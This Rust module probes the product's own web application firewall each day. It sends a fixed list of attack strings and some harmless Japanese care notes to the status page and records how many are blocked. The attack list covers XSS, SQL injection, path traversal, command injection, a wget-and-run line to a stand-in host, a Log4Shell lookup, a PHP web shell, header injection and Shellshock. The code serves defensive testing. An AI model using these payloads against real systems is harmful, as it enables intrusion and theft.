//! Whether a firewall stands before the door: once a day a handful of attacks and of ordinary sentences go through it, in the
//! address of the status page. What the front refuses by itself has no request number of the product's.
//! The long corpora, sentences and attacks by the hundred, are `tests/front`.

use std::{sync::Arc, time::Duration};

use bytes::Bytes;
use http_body_util::Full;
use hyper::Request;

use super::store;
use crate::{
    Error, Result,
    app::App,
    outbound::{Answer, Target, call, tls},
    web::urls,
};

/// One of each customary class: script, SQL, paths, commands, templates, headers in text, files of others.
const ATTACKS: [&str; 12] = [
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "1' UNION SELECT username, password FROM users--",
    "' OR '1'='1' --",
    "1; DROP TABLE staff; --",
    "../../../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(wget http://203.0.113.9/x.sh -O- | sh)",
    "${jndi:ldap://203.0.113.9/a}",
    "<?php system($_GET['c']); ?>",
    "x\r\nSet-Cookie: session=1",
    "() { :; }; /bin/bash -c 'id'",
];
const SENTENCES: [&str; 6] = [
    "本日 BP 130/80、P 72、SpO2 96%。変わりありません。",
    "「痛い」と言われる → 屯用を 1/2 錠に（主治医に確認ずみ）",
    "HbA1c 7.2 % ＜ 前回 7.8 %。次回は 12/3 です。",
    "薬：アムロジピン 5mg 1T 1×朝食後、残薬 3 日分; 調整をお願いします",
    "A様宅の鍵は玄関左。犬がいます (^^)/",
    "訪問しましたが、ご不在でした。SELECT 薬局さんへ電話、or 明日 9:00 に再訪。",
];
const TIME: Duration = Duration::from_secs(20);

/// What came of one trial.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Trial {
    pub at: jiff::Timestamp,
    pub sentences: i32,
    pub sentences_refused: i32,
    pub attacks: i32,
    pub attacks_refused: i32,
}

impl Trial {
    /// Nine attacks of ten, and no sentence.
    pub fn is_good(&self) -> bool {
        self.sentences_refused == 0 && self.attacks > 0 && self.attacks_refused * 10 >= self.attacks * 9
    }
}

/// Tries the front and keeps what came of it. An error where the door does not answer: nothing was tried then.
pub async fn try_front(app: &App) -> Result<()> {
    let door = app.config.status.door(&app.config.base_url)?;
    let tls = Arc::new(tls::trusting(&app.config)?);
    let sentences_refused = refused(&door, &tls, &SENTENCES).await?;
    let attacks_refused = refused(&door, &tls, &ATTACKS).await?;
    let counted = [SENTENCES.len(), sentences_refused, ATTACKS.len(), attacks_refused];
    store::note_trial(app, counted.map(|n| i32::try_from(n).unwrap_or(i32::MAX))).await
}

async fn refused(door: &Target, tls: &Arc<rustls::ClientConfig>, texts: &[&str]) -> Result<usize> {
    let mut count = 0;
    for text in texts {
        let answer = tokio::time::timeout(TIME, call(door, tls, request(door, text)?, 0)).await;
        let answer = answer
            .map_err(|_| Error::Unavailable("the door does not answer".into()))?
            .map_err(|failure| Error::Unavailable(failure.code.into()))?;
        count += usize::from(by_front(&answer));
    }
    Ok(count)
}

/// A refusal that the product knows nothing of. A front that is merely broken is no firewall.
fn by_front(answer: &Answer) -> bool {
    !answer.headers.contains_key("x-request-id") && matches!(answer.status, 400 | 403 | 404 | 405 | 406)
}

fn request(door: &Target, text: &str) -> Result<Request<Full<Bytes>>> {
    let query = serde_urlencoded::to_string([("q", text)]).map_err(Error::internal)?;
    Request::get(format!("{}?{query}", urls::status()))
        .header("host", door.authority())
        .header("user-agent", concat!("renkei/", env!("CARGO_PKG_VERSION"), " (synthetic)"))
        .header("accept", "text/html")
        .body(Full::default())
        .map_err(Error::internal)
}
